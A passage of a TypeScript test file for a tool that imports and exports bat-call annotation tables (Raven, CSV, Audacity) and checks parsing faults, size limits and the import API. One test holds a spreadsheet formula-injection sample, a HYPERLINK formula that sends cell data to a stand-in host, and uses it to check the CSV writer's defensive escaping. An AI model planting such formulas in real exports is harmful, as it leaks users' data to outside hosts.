/**
 * Clips in and out as annotation tables: the text readers (store/selection-table.ts) on Raven,
 * CSV and Audacity text written by hand (test/fixtures/raven-selections.txt is a Raven Pro table
 * with a row per View, a measurement column and two annotation columns), and POST
 * /v1/clips/import and GET /v1/clips/export on a database — all or nothing, idempotent, time
 * expansion, a dataset's rows found by file, a round trip through the export.
 */
import { randomUUID } from "node:crypto";
import { readFile, mkdir, writeFile } from "node:fs/promises";
import { basename, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { buildApp, type App } from "../src/api/app.js";
import { exportClipTable, importClipTable, losslessFixed } from "../src/store/clip-tables.js";
import { deleteDataset } from "../src/store/datasets.js";
import { encodeWav16 } from "../src/demo/wav.js";
import { resolveRoots } from "../src/store/paths.js";
import { readTable, MAX_TABLE_COLUMNS, MAX_TABLE_DISTINCT_TAGS, MAX_TABLE_ROWS, MAX_TABLE_TAGS, tableLine } from "../src/store/selection-table.js";
import { InvalidError } from "../src/store/errors.js";
import { ensureAdmin } from "../src/store/users.js";
import { random } from "./random.js";
import { freshDatabase, tempDir, writeSineWav, type TestDatabase } from "./store-helpers.js";

const FIXTURE = fileURLToPath(new URL("./fixtures/raven-selections.txt", import.meta.url));

/** The fields of the InvalidError `read` throws, as "field: message" lines. */
function faults(read: () => unknown): string[] {
  try {
    read();
  } catch (err) {
    if (err instanceof InvalidError) return err.fields.map((f) => `${f.field}: ${f.message}`);
    throw err;
  }
  throw new Error("no InvalidError");
}

describe("losslessFixed", () => {
  it("writes Raven's places where they read back as the double, else the shortest form's digits, never an exponent", () => {
    expect([2.5, 0.1 + 0.2, 1.0000000001, 1.5e-7, 5e-324, -2.5e-10, 1e21, 123456789.0000001].map((v) => losslessFixed(v, 9))).toEqual([
      "2.500000000", "0.30000000000000004", "1.0000000001", "0.000000150", `0.${"0".repeat(323)}5`, "-0.00000000025", "1000000000000000000000", "123456789.000000104",
    ]);
    const rand = random(20261207);
    for (let i = 0; i < 10_000; i++) {
      const v = i % 2 ? rand() * 10 ** Math.floor(rand() * 30 - 20) : rand() * 3600;
      const text = losslessFixed(v, 9);
      expect([Number(text), /e/i.test(text)], text).toEqual([v, false]);
    }
  });
});

describe("readTable", () => {
  it("reads a Raven table: one selection per Selection (its rows per View merged, the spectrogram's frequencies), annotation columns as tags, measurements left", async () => {
    const table = readTable(await readFile(FIXTURE, "utf8"));
    expect(table.format).toBe("raven");
    expect(table.tagColumns).toEqual(["Species", "Call type"]);
    expect(table.ignoredColumns).toEqual(["Delta Time (s)"]);
    expect(table.selections.map((s) => [s.line, s.selection, s.begin, s.end, s.low, s.high, s.beginFile, s.tags.map((t) => `${t.key}=${t.value}`)])).toEqual([
      [2, "1", 0.25, 0.75, 1200.5, 3500, "a1.wav", ["Species=Myotis daubentonii", "Call type=FM sweep"]],
      [4, "2", 1.1, 1.6, 800, 2500, "a1.wav", ["Species=Pipistrellus pipistrellus"]],
      [6, "3", 2, 3.25, 100, 3900, "a1.wav", ["Call type=social"]],
    ]);
  });

  it("reads a selection across channels (a row per channel, one Selection number) as a selection per channel", () => {
    const text = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\n1\tWaveform 1\t1\t0.5\t1\n1\tSpectrogram 1\t1\t0.5\t1\n1\tSpectrogram 1\t2\t0.5\t1\n";
    expect(readTable(text).selections.map((s) => [s.line, s.selection, s.channel])).toEqual([[2, "1", 1], [4, "1", 2]]);
  });


  it("refuses a row whose Begin Time (s) − File Offset (s) is not its file's (the file's start in the table, which its other rows share): one of the two was edited alone", () => {
    const header = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tBegin Path\tFile Offset (s)";
    // A multi-file table: x.wav starts at 10 s of it, y.wav at 0; line 4's Begin Time was edited (0.274 → 0.2742).
    const multi = [header,
      "1\tSpectrogram 1\t1\t10.100000000\t10.150000000\tsite/x.wav\t0.100000000",
      "1\tWaveform 1\t1\t10.100000000\t10.150000000\tsite/x.wav\t0.100000000",
      "2\tSpectrogram 1\t1\t10.2742\t10.279500000\tsite/x.wav\t0.274000000",
      "3\tSpectrogram 1\t1\t10.500000000\t10.600000000\tsite/x.wav\t0.500000000",
      "4\tSpectrogram 1\t1\t0.700000000\t0.800000000\tsite/y.wav\t0.700000000",
    ].join("\n");
    expect(faults(() => readTable(multi))).toEqual([
      "line 4, File Offset (s): Begin Time (s) '10.2742' − File Offset (s) '0.274000000' is 10.0002 s, where the 2 other selections of site/x.wav give 10 s (the file's start in the table): one of the two cells was edited without the other, and the row would be placed by its File Offset (s) (at 0.274 s, to 0.2793 s), which its Begin Time (s) does not say. Set File Offset (s) to 0.2742 to place it by its Begin Time (s), as Raven does — or Begin Time (s) back to 10.274 to keep it where it was",
    ]);
    // Two selections of a file that disagree: which one was edited cannot be told — both are named.
    const two = [header,
      "1\tSpectrogram 1\t1\t0.100000000\t0.150000000\tx.wav\t0.100000000",
      "2\tSpectrogram 1\t1\t0.2742\t0.279500000\tx.wav\t0.274000000",
    ].join("\n");
    expect(faults(() => readTable(two))).toEqual([
      "line 2, File Offset (s): Begin Time (s) '0.100000000' − File Offset (s) '0.100000000' is 0 s, and the selections of x.wav give 2 different starts of the file in the table, none on most of them (0 s: line 2; 0.0002 s: line 3): a Begin Time (s) or File Offset (s) was edited without the other. Make each row's File Offset (s) its Begin Time (s) less the file's start (sonotile's export writes the two alike)",
      "line 3, File Offset (s): Begin Time (s) '0.2742' − File Offset (s) '0.274000000' is 0.0002 s, and the selections of x.wav give 2 different starts of the file in the table, none on most of them (0 s: line 2; 0.0002 s: line 3): a Begin Time (s) or File Offset (s) was edited without the other. Make each row's File Offset (s) its Begin Time (s) less the file's start (sonotile's export writes the two alike)",
    ]);
    // Agreeing to within a microsecond (the rounding of two written cells), and a file of one row, are fine.
    const fine = readTable([header, "1\tSpectrogram 1\t1\t10.1000004\t10.2\tx.wav\t0.1", "2\tSpectrogram 1\t1\t10.3\t10.4\tx.wav\t0.3", "3\tSpectrogram 1\t1\t2\t3\ty.wav\t7"].join("\n"));
    expect(fine.selections.map((s) => [s.line, s.begin])).toEqual([[2, 0.1], [3, 0.3], [4, 7]]);
    // Cells of 6 decimals (a `%.6f` script's, or one that truncates): each row's start is within a
    // microsecond of its file's, two rows within two — x.wav's 1 µs apart, which floating point made
    // 1.000000001e-6 and refused as "2 different starts" under a bound of one microsecond; z.wav's 2 µs.
    const sixDecimals = readTable([header, "1\tSpectrogram 1\t1\t1.100000\t1.150000\tx.wav\t0.100000", "2\tSpectrogram 1\t1\t1.200001\t1.250001\tx.wav\t0.200000", "3\tSpectrogram 1\t1\t1.400000\t1.450000\tz.wav\t0.400001", "4\tSpectrogram 1\t1\t1.500001\t1.550000\tz.wav\t0.500000"].join("\n"));
    expect(sixDecimals.selections.map((s) => [s.line, s.begin])).toEqual([[2, 0.1], [3, 0.2], [4, 0.400001], [5, 0.5]]);
  });

  it("lists every column it does not use as ignored: Clip ID (no row's clip is found by it) and End Path too", () => {
    const table = readTable("Selection\tBegin Time (s)\tEnd Time (s)\tBegin Path\tEnd Path\tClip ID\tDelta Time (s)\tSpecies\n1\t0\t1\ta.wav\ta.wav\t0f1d3c9e-7c43-4a4c-9a57-7e0a5f3b2d11\t1\tA\n");
    expect([table.tagColumns, table.ignoredColumns]).toEqual([["Species"], ["End Path", "Clip ID", "Delta Time (s)"]]);
  });
  it("reads a byte-order mark, CRLF line ends, blank lines and a trailing tab alike; in a Raven table a quote is text", () => {
    const text = '\ufeffSelection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tNotes\r\n'
      + '1\tSpectrogram 1\t1\t0.5\t1\t"loud\t\r\n'
      + '\r\n'
      + '2\tSpectrogram 1\t1\t1.5\t2\t  padded "x"  \r\n';
    // Raven never quotes: the quote opening line 2's cell is no quoted cell running to line 4's.
    expect(readTable(text).selections.map((s) => [s.line, s.begin, s.end, s.tags])).toEqual([
      [2, 0.5, 1, [{ key: "Notes", value: '"loud' }]],
      [4, 1.5, 2, [{ key: "Notes", value: 'padded "x"' }]],
    ]);
  });

  it("reads CSV's quoted cells (a comma, a quote, a line break), and refuses a quote left open or closed mid-cell, naming the line it opened on", () => {
    const csv = 'Begin Time (s),End Time (s),Notes\r\n0.5,1,"two, parts ""quoted""\r\nand a line"\r\n1.5,2,x\r\n';
    expect(readTable(csv).selections.map((s) => [s.line, s.begin, s.tags[0].value])).toEqual([[2, 0.5, 'two, parts "quoted"\nand a line'], [4, 1.5, "x"]]);
    expect(faults(() => readTable('Begin Time (s),End Time (s),Notes\n0.5,1,"open\n1.5,2,x\n2.5,3,"y"\n'))).toEqual([
      "line 2: a quoted cell's closing \" is followed by 'y', not by a comma or the line's end (it closes on line 4): a quote inside a cell is written \"\" and the cell quoted whole",
    ]);
    expect(faults(() => readTable('Begin Time (s),End Time (s),Notes\n0.5,1,"open\n1.5,2,x\n'))).toEqual(['line 2: a quoted cell is not closed: a " opens it and none closes it (a quote inside a cell is written "")']);
  });

  it("reads Raven's measurement columns (Raven Pro's list) as measurements and every other column as annotations, naming a column without a header", () => {
    const header = ["Selection", "Begin Time (s)", "End Time (s)", "Begin Clock Time", "Begin Date", "Length (frames)", "PFC Avg Slope (Hz/ms)", "Center Time Rel.", "Max Bearing (deg)", "Confidence (%)", "Score (dB)", "", "Species"];
    const table = readTable(header.join("\t") + "\n" + ["1", "0", "1", "12:00:00.000", "2024/05/01", "17", "-3.2", "0.4", "90", "87", "-3", "stray", "A"].join("\t") + "\n");
    expect(table.tagColumns).toEqual(["Confidence (%)", "Score (dB)", "Species"]);
    expect(table.ignoredColumns).toEqual(["Begin Clock Time", "Begin Date", "Length (frames)", "PFC Avg Slope (Hz/ms)", "Center Time Rel.", "Max Bearing (deg)", "column 12 (no name)"]);
  });

  it("names each fault by line and column, all at once", () => {
    const text = [
      "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies",
      "1\tSpectrogram 1\t1\t1,5\t2\t100\t200\tA",
      "2\tSpectrogram 1\t1\tabc\t2\t100\t200\tA",
      "3\tSpectrogram 1\t1\t3\t3\t100\t200\tA",
      "4\tSpectrogram 1\t0\t4\t5\t300\t200\tA",
      "5\tSpectrogram 1\t1\t5\t6\t100\t200\tA\textra",
      "6\tSpectrogram 1\t1\t6\t7\t200\t200\tA",
      "7\tSpectrogram 1\t1\t7\t8\t100\t200\t" + "x".repeat(256),
      "8\tSpectrogram 1\t1\t8\t9\t100\t200\tA",
      "8\tWaveform 1\t1\t8\t9.5\t0\t4000\tA",
    ].join("\n");
    expect(faults(() => readTable(text))).toEqual([
      "line 2, Begin Time (s): '1,5' is not a number of seconds (a decimal comma: write the decimal point as '.')",
      "line 3, Begin Time (s): 'abc' is not a number of seconds",
      "line 4, End Time (s): 3 s must be after Begin Time (s) (3 s): a selection lasts",
      "line 5, Channel: '0' is no channel: channels are numbered from 1",
      // Every fault of a row, not its first only.
      "line 5, High Freq (Hz): 200 Hz must be above Low Freq (Hz) (300 Hz): a selection's band has a width",
      "line 6: has 9 cells, more than the header's 8 columns",
      "line 7, High Freq (Hz): 200 Hz must be above Low Freq (Hz) (200 Hz): a selection's band has a width",
      "line 8, Species: must be at most 255 characters to be a tag (has 256)",
      "line 10, End Time (s): Selection 8 of channel 1 is on line 9 too, with another End Time (s): rows of one selection (one per View) must place it alike — renumber one of them",
    ]);
  });

  it("reads no frequencies of a Waveform view's row (Raven writes 0 and 0 there, or anything), and checks the rest of it as any row's", () => {
    const header = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies";
    const text = [
      header,
      "1\tSpectrogram 1\t1\t0.2\t0.25\t1000\t2000\tA",
      "1\tWaveform 1\t1\t0.2\t0.25\t0\t0\tA",
      "2\tWaveform 1\t1\t0.3\t0.35\tnone\t-5\tB",
      "2\tSpectrogram 1\t1\t0.3\t0.35\t1500\t2500\tB",
      // A selection of a Waveform row alone spans the whole band: no bounds.
      "3\tWaveform 1\t1\t0.4\t0.45\t0\t0\tC",
    ].join("\n");
    expect(readTable(text).selections.map((s) => [s.line, s.selection, s.low, s.high, s.frequencyLine, s.tags.map((t) => t.value)])).toEqual([
      [2, "1", 1000, 2000, 2, ["A"]],
      [4, "2", 1500, 2500, 5, ["B"]],
      [6, "3", null, null, 6, ["C"]],
    ]);
    // Its times, channel and annotations are read and checked: they place the selection.
    const faulty = [header, "1\tSpectrogram 1\t1\t0.2\t0.25\t1000\t2000\tA", "1\tWaveform 1\t0\t0.2\tabc\t0\t0\t" + "x".repeat(256), "2\tWaveform 1\t1\t0.3\t0.4\t0\t0\tA", "2\tSpectrogram 1\t1\t0.3\t0.35\t1000\t2000\tA"].join("\n");
    expect(faults(() => readTable(faulty))).toEqual([
      "line 3, End Time (s): 'abc' is not a number of seconds",
      "line 3, Channel: '0' is no channel: channels are numbered from 1",
      "line 3, Species: must be at most 255 characters to be a tag (has 256)",
      "line 5, End Time (s): Selection 2 of channel 1 is on line 4 too, with another End Time (s): rows of one selection (one per View) must place it alike — renumber one of them",
    ]);
  });

  it("refuses a table in another encoding than UTF-8, naming the line, rather than lose its letters", () => {
    const latin1 = new TextDecoder().decode(Buffer.from("Begin Time (s)\tEnd Time (s)\tSpecies\n0\t1\tMyotis\n1\t2\tBarbastelle d'Europe \u00e9\n", "latin1"));
    expect(faults(() => readTable(latin1))).toEqual(["line 3: holds bytes that are not UTF-8 text (read as U+FFFD): save the table as UTF-8 — it is in another encoding, such as Windows-1252"]);
  });

  it("lists the first 100 faults and counts the rest, a fault each", () => {
    const text = "Begin Time (s)\tEnd Time (s)\n" + "abc\t1\n".repeat(150);
    const listed = faults(() => readTable(text));
    expect(listed).toHaveLength(101);
    expect(listed[99]).toBe("line 101, Begin Time (s): 'abc' is not a number of seconds");
    expect(listed[100]).toBe("table: and 50 more faults");
  });

  it("refuses a header without the time columns, an unclosed quote, a column named twice, an empty table and too many rows, saying which", () => {
    expect(faults(() => readTable("Selection\tBegin Time (s)\tEnd\n1\t0\t1\n"))).toEqual([
      "End Time (s): column missing from the header (line 1, read as tab-separated: 'Selection', 'Begin Time (s)', 'End'); a selection table names 'Begin Time (s)' and 'End Time (s)'",
    ]);
    expect(faults(() => readTable("Begin Time (s)\tEnd Time (s)\tSpecies\tSpecies\n0\t1\tA\tB\n"))).toEqual(["line 1: names the column 'Species' twice (columns 3 and 4)"]);
    expect(faults(() => readTable("", { format: "raven" }))).toEqual(["table: is empty: expected a header line and a row per selection"]);
    expect(faults(() => readTable("hello\n"))).toEqual([expect.stringMatching(/^format: the table's format is not recognised/)]);
    // A blank line above the header is no reason to fail.
    expect(readTable("\n  \nBegin Time (s)\tEnd Time (s)\n0\t1\n")).toMatchObject({ format: "raven", selections: [{ line: 4 }] });
    const many = "Begin Time (s)\tEnd Time (s)\n" + "0\t1\n".repeat(MAX_TABLE_ROWS + 1);
    const limit = `table: has more than the limit of ${MAX_TABLE_ROWS} rows per import: split it into several tables`;
    expect(faults(() => readTable(many))).toEqual([limit]);
    // Reading stops past the limit: a fault further down is never reached (an 8 MiB body of 2.1
    // million rows was read whole, 570 MB and 10.5 s, before being refused).
    expect(faults(() => readTable("Begin Time (s),End Time (s)\n" + "0,1\n".repeat(MAX_TABLE_ROWS + 1) + '"open\n'))).toEqual([limit]);
    expect(faults(() => readTable("0\t1\tpip\n".repeat(MAX_TABLE_ROWS + 1) + "x\ty\n"))).toEqual([limit]);
    expect(readTable("Begin Time (s)\tEnd Time (s)\n" + "0\t1\n".repeat(MAX_TABLE_ROWS)).selections).toHaveLength(MAX_TABLE_ROWS);
  });

  it("refuses a table of more than MAX_TABLE_COLUMNS columns, MAX_TABLE_TAGS tags or MAX_TABLE_DISTINCT_TAGS distinct tags, naming the line — 60,000 annotation columns (818 kB) held the server for 150 s", () => {
    const table = (columns: number, rows: number, delimiter = "\t") => {
      const keys = Array.from({ length: columns - 2 }, (_, i) => `k${i}`);
      const row = (i: number) => [String(i), String(i + 1), ...keys.map(() => "v")].join(delimiter);
      return [["Begin Time (s)", "End Time (s)", ...keys].join(delimiter), ...Array.from({ length: rows }, (_, i) => row(i))].join("\n") + "\n";
    };
    const wide = `line 1: has more than the limit of ${MAX_TABLE_COLUMNS} cells: a table has at most ${MAX_TABLE_COLUMNS} columns`;
    expect(faults(() => readTable(table(MAX_TABLE_COLUMNS + 1, 1)))).toEqual([wide]);
    expect(faults(() => readTable(table(MAX_TABLE_COLUMNS + 1, 1, ",")))).toEqual([wide]);
    expect(faults(() => readTable(table(3, 1) + "0\t1" + "\tv".repeat(MAX_TABLE_COLUMNS) + "\n"))).toEqual([`line 3: has more than the limit of ${MAX_TABLE_COLUMNS} cells: a table has at most ${MAX_TABLE_COLUMNS} columns`]);
    expect(readTable(table(MAX_TABLE_COLUMNS, 1)).tagColumns).toHaveLength(MAX_TABLE_COLUMNS - 2);
    // A trailing delimiter after the last of the most columns is no column more (it was refused).
    const trailing = table(MAX_TABLE_COLUMNS, 2).replace(/\n/g, "\t\n");
    expect(readTable(trailing).selections.map((s) => s.tags.length)).toEqual([MAX_TABLE_COLUMNS - 2, MAX_TABLE_COLUMNS - 2]);
    expect(faults(() => readTable(trailing.replace("\t\n", "\t\t\n")))).toEqual([wide]);
    // The largest table of rows with 40 annotation columns is read (a cap of 100,000 tags refused
    // real 10,000-row tables); one tag more is refused, naming the row that passes the limit.
    expect(readTable(table(42, MAX_TABLE_ROWS)).selections).toHaveLength(MAX_TABLE_ROWS);
    const over = table(42, MAX_TABLE_ROWS).replace(/\tv\n$/, "\tv; w\n");
    expect(faults(() => readTable(over))).toEqual([`line ${MAX_TABLE_ROWS + 1}: brings the table's tags (values of its annotation cells) past the limit of ${MAX_TABLE_TAGS} per import: split it into several tables, or choose the columns with tag_columns`]);
    // Distinct tags are counted apart: each costs a tag made (400,000 of them held the embedded
    // database 150 s). As many as the limit are read; one more is refused at its row.
    const notes = Array.from({ length: MAX_TABLE_DISTINCT_TAGS / MAX_TABLE_ROWS }, (_, k) => `Note ${k}`);
    const distinct = ["Begin Time (s)\tEnd Time (s)", ...notes].join("\t") + "\n" +
      Array.from({ length: MAX_TABLE_ROWS }, (_, i) => [String(i), String(i + 1), ...notes.map(() => `v${i}`)].join("\t") + "\n").join("");
    expect(readTable(distinct).selections).toHaveLength(MAX_TABLE_ROWS);
    expect(faults(() => readTable(distinct.replace(/\n$/, "; w\n")))).toEqual([`line ${MAX_TABLE_ROWS + 1}: brings the table's distinct tags (different values of its annotation columns) past the limit of ${MAX_TABLE_DISTINCT_TAGS} per import: split it into several tables, or choose the columns with tag_columns`]);
  });

  it("leaves older Raven Pro measurement columns (1.5's long names, `Max Power (dB)`) as measurements, not tags: 10,000 rows of 11 of them were 110,000 tags", () => {
    const measurements = ["Max Power (dB)", "1st Quartile Freq (Hz)", "1st Quartile Frequency (Hz)", "Peak Frequency Contour Number of Inflection Points"];
    const text = ["Begin Time (s)", "End Time (s)", ...measurements, "Species"].join("\t") + "\n" + ["0", "1", "-31.2", "4500", "4500", "3", "Myotis"].join("\t") + "\n";
    const read = readTable(text);
    expect([read.tagColumns, read.ignoredColumns]).toEqual([["Species"], measurements]);
    expect(read.selections[0].tags).toEqual([{ key: "Species", value: "Myotis" }]);
  });

  it("reads Raven's columns as CSV, and tag_columns chooses the tags (naming one the header lacks)", () => {
    const csv = 'Selection,Begin Time (s),End Time (s),Species,Observer\r\n1,0.5,1.5,"Myotis, sp.",ann\r\n';
    expect(readTable(csv).selections[0].tags).toEqual([{ key: "Species", value: "Myotis, sp." }, { key: "Observer", value: "ann" }]);
    expect(readTable(csv, { tagColumns: ["Species"] })).toMatchObject({ format: "csv", tagColumns: ["Species"], ignoredColumns: ["Observer"] });
    expect(faults(() => readTable(csv, { tagColumns: ["Species", "Genus"] }))).toEqual(["tag_columns: names 'Genus', which the table's header does not have (it has: Selection, Begin Time (s), End Time (s), Species, Observer)"]);
    // An option of the other format is refused, not ignored.
    expect(faults(() => readTable(csv, { labelKey: "Species" }))).toEqual(["label_key: is for an Audacity label track: a csv table's tags are named by its columns (tag_columns chooses them)"]);
    expect(faults(() => readTable("0\t1\tpip\n", { tagColumns: ["label"] }))).toEqual(["tag_columns: is for a Raven or CSV table's columns: an Audacity label track has none (its labels become tags of label_key)"]);
  });

  it("reads an Audacity label track, its frequency lines and labels (empty ones no tag), and names its faults", () => {
    const text = "0.500000\t1.250000\tpip\n\\\t1500.000000\t3000.000000\n2.000000\t2.500000\t\n3\t4\tsocial call\n\\\t-1\t-1\n5\t5\tclick\n6\t7\thum\n\\\t-1\t800\n";
    const table = readTable(text);
    expect(table.format).toBe("audacity");
    // A point label marks an instant: no clip, and no reason to refuse the track's other labels.
    expect(table.skipped).toEqual([{ line: 6, reason: "a point label (start = end = 5 s) marks an instant, not a clip" }]);
    expect(table.selections.map((s) => [s.line, s.begin, s.end, s.low, s.high, s.tags])).toEqual([
      [1, 0.5, 1.25, 1500, 3000, [{ key: "label", value: "pip" }]],
      [3, 2, 2.5, null, null, []],
      [4, 3, 4, null, null, [{ key: "label", value: "social call" }]],
      // A negative frequency is no bound on that side: the label's band is below 800 Hz.
      [7, 6, 7, null, 800, [{ key: "label", value: "hum" }]],
    ]);
    expect(readTable("1\t2\tx\n", { labelKey: "Species" }).selections[0].tags).toEqual([{ key: "Species", value: "x" }]);
    expect(faults(() => readTable("\\\t1\t2\n1\tx\tpip\n2\t1\tpip\n3\t4\tpip\n\\\t900\t900\n", { format: "audacity" }))).toEqual([
      "line 1: a frequency line (starting with \\) must follow its label's line",
      "line 2, end: 'x' is not a number of seconds",
      "line 3, end: 1 s must be after the start (2 s)",
      "line 5, high frequency: 900 Hz must be above the low frequency (900 Hz): a label's band has a width",
    ]);
  });

  it("writes cells Raven and CSV readers read back: CSV quoting delimiters, quotes and line breaks; Raven, which never quotes, with spaces for tabs and line breaks", () => {
    const header = ["Begin Time (s)", "End Time (s)", "Notes"];
    const cells = ['a\tb', 'say "hi"', "two\nlines", "x, y"];
    const read = (format: "raven" | "csv") => readTable([header, ...cells.map((c, i) => [String(i), String(i + 1), c])].map((r) => tableLine(format, r)).join(""), { format }).selections.map((s) => s.tags[0]?.value);
    expect(read("csv")).toEqual(cells);
    expect(read("raven")).toEqual(["a b", 'say "hi"', "two lines", "x, y"]);
  });

  it("writes a CSV cell a spreadsheet would run as a formula (=, +, -, @) after a ' — numbers as they are, Raven's cells untouched — and reads each back as it was", () => {
    const header = ["Begin Time (s)", "End Time (s)", "@Notes"];
    const cells = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-", "@SUM(A1)", "'=already guarded", "'plain", "-3.5", "1e-7"];
    const lines = (format: "raven" | "csv") => [header, ...cells.map((c, i) => [String(i), String(i + 1), c])].map((r) => tableLine(format, r));
    expect(lines("csv").map((l) => l.split(",").slice(2).join(","))).toEqual([
      "'@Notes\r\n", `"'=HYPERLINK(""http://x.example/?""&A1)"\r\n`, "'+1+1\r\n", "'-\r\n", "'@SUM(A1)\r\n", "''=already guarded\r\n", "'plain\r\n", "-3.5\r\n", "1e-7\r\n",
    ]);
    expect(lines("raven")[1]).toBe('0\t1\t=HYPERLINK("http://x.example/?"&A1)\n');
    for (const format of ["csv", "raven"] as const) {
      const table = readTable(lines(format).join(""), { format });
      expect(table.tagColumns).toEqual(["@Notes"]);
      expect(table.selections.map((s) => s.tags[0]?.value)).toEqual(cells);
    }
  });
});

describe("POST /v1/clips/import, GET /v1/clips/export", () => {
  let t: TestDatabase;
  let app: App;
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let headers: { authorization: string };
  const ids: Record<string, string> = {};

  const post = async (url: string, payload: object) => {
    const res = await app.inject({ method: "POST", url, payload, headers });
    expect(res.statusCode, res.body).toBeLessThan(300);
    return res.json();
  };
  /** POSTs a table as text. */
  const importText = (query: string, text: string, type = "text/plain") =>
    app.inject({ method: "POST", url: `/v1/clips/import?${query}`, payload: text, headers: { ...headers, "content-type": type } });
  const clipsOf = async (recording: string) => (await app.inject({ url: `/v1/clips?recording_id=${recording}&limit=1000&state=all` })).json().items;

  beforeAll(async () => {
    t = await freshDatabase();
    dir = await tempDir();
    await mkdir(join(dir.path, "site A"));
    await mkdir(join(dir.path, "site B"));
    await writeSineWav(join(dir.path, "a1.wav"), 8000, 10);
    await writeSineWav(join(dir.path, "site A", "x.wav"), 8000, 4);
    await writeSineWav(join(dir.path, "site B", "x.wav"), 8000, 4);
    await writeSineWav(join(dir.path, "te.wav"), 8000, 10);
    await writeSineWav(join(dir.path, "round.wav"), 8000, 10);
    await writeSineWav(join(dir.path, "fmt.wav"), 8000, 10);
    await writeFile(join(dir.path, "stereo.wav"), encodeWav16(new Float32Array(8000 * 4 * 2), 8000, 2));
    headers = { authorization: `Bearer ${(await ensureAdmin(t.db.sql))!.key}` };
    app = await buildApp({ database: t.db, audioRoots: await resolveRoots([dir.path]) });
    ids.dataset = (await post("/v1/datasets", { name: "bats", audio_dir: dir.path })).id;
    for (const [name, path] of [["a1", "a1.wav"], ["xa", "site A/x.wav"], ["xb", "site B/x.wav"], ["te", "te.wav"], ["round", "round.wav"], ["stereo", "stereo.wav"], ["fmt", "fmt.wav"]]) {
      ids[name] = (await post("/v1/recordings", { dataset_id: ids.dataset, path })).id;
    }
    // Recorded 10× time-expanded: the file's 10 s last 1 s, its 4 kHz Nyquist is 40 kHz.
    const patched = await app.inject({ method: "PATCH", url: `/v1/recordings/${ids.te}`, payload: { time_expansion: 10 }, headers });
    expect(patched.statusCode, patched.body).toBe(200);
  });
  afterAll(async () => {
    await app?.close();
    await t?.cleanup();
    await dir?.remove();
  });

  it("creates a clip per selection with its tags, frequency bounds and run; importing the table again creates nothing", async () => {
    const text = await readFile(FIXTURE, "utf8");
    const res = await importText(`recording_id=${ids.a1}&name=raven-selections.txt`, text);
    expect(res.statusCode, res.body).toBe(200);
    const result = res.json();
    expect(result).toMatchObject({ format: "raven", created: 3, existing: 0, tags_added: 0, tag_columns: ["Species", "Call type"], ignored_columns: ["Delta Time (s)"] });
    expect(result.run).toMatchObject({ kind: "import", status: "completed", description: `clips from raven table raven-selections.txt into recording ${ids.a1}` });
    expect(result.rows.map((r: { line: number; status: string }) => [r.line, r.status])).toEqual([[2, "created"], [4, "created"], [6, "created"]]);
    const clips = await clipsOf(ids.a1);
    expect(clips.map((c: { start_time: number; end_time: number; low_freq: number; high_freq: number; tags: unknown; features: unknown; run_id: string }) => [c.start_time, c.end_time, c.low_freq, c.high_freq, c.tags, c.features, c.run_id])).toEqual([
      [0.25, 0.75, 1200.5, 3500, [{ key: "Call type", value: "FM sweep" }, { key: "Species", value: "Myotis daubentonii" }], [], result.run.id],
      [1.1, 1.6, 800, 2500, [{ key: "Species", value: "Pipistrellus pipistrellus" }], [], result.run.id],
      [2, 3.25, 100, 3900, [{ key: "Call type", value: "social" }], [], result.run.id],
    ]);
    // Again, as JSON, with a column added: the same clips, which gain the new column's tags.
    const again = await app.inject({ method: "POST", url: `/v1/clips/import?recording_id=${ids.a1}`, payload: { table: text.replace("Call type\n", "Call type\tObserver\n").replace("FM sweep\n", "FM sweep\tann\n") }, headers });
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ created: 0, existing: 3, tags_added: 1 });
    expect(again.json().rows.map((r: { clip_id: string }) => r.clip_id)).toEqual(result.rows.map((r: { clip_id: string }) => r.clip_id));
    expect(await clipsOf(ids.a1)).toHaveLength(3);
  });

  it("refuses a table with a faulty row whole (all or nothing), naming each row by line and column", async () => {
    const text = [
      "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies",
      "1\tSpectrogram 1\t1\t4\t5\t100\t200\tfine",
      "2\tSpectrogram 1\t1\t9.5\t10.5\t100\t200\tpast the end",
      "3\tSpectrogram 1\t2\t5\t6\t100\t200\tno such channel",
      "4\tSpectrogram 1\t1\t6\t7\t100\t4500\tabove Nyquist",
      "5\tSpectrogram 1\t1\t4\t5\t100\t200\tduplicate",
    ].join("\n");
    const res = await importText(`recording_id=${ids.round}`, text);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().fields).toEqual([
      { field: "line 3, End Time (s)", message: "10.5 s (real) must be <= the recording's duration (10 s)" },
      { field: "line 4, Channel", message: "2 is no channel of round.wav, which has 1" },
      { field: "line 5, High Freq (Hz)", message: "4500 Hz (real) must be <= the recording's Nyquist frequency (4000 Hz)" },
      { field: "line 6", message: "duplicates line 2: the same recording and Channel, Begin Time (s) and End Time (s) each within 1 µs of its own, Low Freq (Hz) and High Freq (Hz) alike — one clip; remove one of the rows" },
    ]);
    expect(await clipsOf(ids.round)).toEqual([]);
    const runs = (await app.inject({ url: "/v1/runs?limit=1000" })).json().items;
    expect(runs.filter((r: { description: string }) => r.description.includes(ids.round))).toEqual([]);
  });

  it("names every faulty row in one 400: cells that are no number with rows past the recording, of no file of the dataset, or on no channel — it named the unreadable cells first, the rest only once they were fixed", async () => {
    const text = [
      "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)",
      "1\tSpectrogram 1\t1\t1,5\t2\t100\t200",
      "2\tSpectrogram 1\t1\t1\t30\t100\t200",
      "3\tSpectrogram 1\t3\t1\t2\t100\t200",
      "4\tSpectrogram 1\t1\t1\t2\t100\t30000",
    ].join("\n");
    const res = await importText(`recording_id=${ids.stereo}`, text);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().fields).toEqual([
      { field: "line 2, Begin Time (s)", message: "'1,5' is not a number of seconds (a decimal comma: write the decimal point as '.')" },
